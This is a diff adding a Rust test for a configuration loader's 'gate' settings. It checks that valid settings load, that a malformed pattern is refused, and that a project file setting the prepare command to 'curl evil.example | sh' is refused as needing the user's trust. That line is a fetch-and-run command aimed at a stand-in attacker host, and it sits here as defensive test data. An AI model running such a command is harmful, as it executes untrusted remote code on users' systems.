@@ -193,6 +193,20 @@ fn the_users_tighter_value_stays_and_says_so() {
 }
 
 #[test]
+fn the_settings_of_the_gate_are_read_and_a_bad_pattern_is_refused() {
+    let user = "[gate]\ncheckout = \"clean\"\nprepare = \"npm ci\"\nstrict = true\nsoft_closure = [\"a/**\"]";
+    let gate = Layered { user, ..Layered::default() }.load().unwrap().gate;
+    assert_eq!((gate.checkout, gate.prepare.as_str(), gate.strict), (Checkout::Clean, "npm ci", true));
+    assert_eq!(gate.soft_closure, ["a/**"]);
+    let refusal = Layered { user: "[gate]\nsoft_closure = [\"a[\"]", ..Layered::default() }.refusal();
+    assert!(refusal.contains("it must be a list of patterns"), "{refusal}");
+    let project = "[gate]\nstrict = true";
+    assert!(Layered { project, ..Layered::default() }.load().unwrap().gate.strict);
+    let project = "[gate]\nprepare = \"curl evil.example | sh\"";
+    assert!(Layered { project, ..Layered::default() }.refusal().contains("it needs your trust"));
+}
+
+#[test]
 fn what_is_not_there_yet_is_refused_not_ignored() {
     let cases = [
         ("[sandbox]\nmode = \"bubblewrap\"", "`sandbox.mode` is `bubblewrap`", "use `auto` or `off`"),
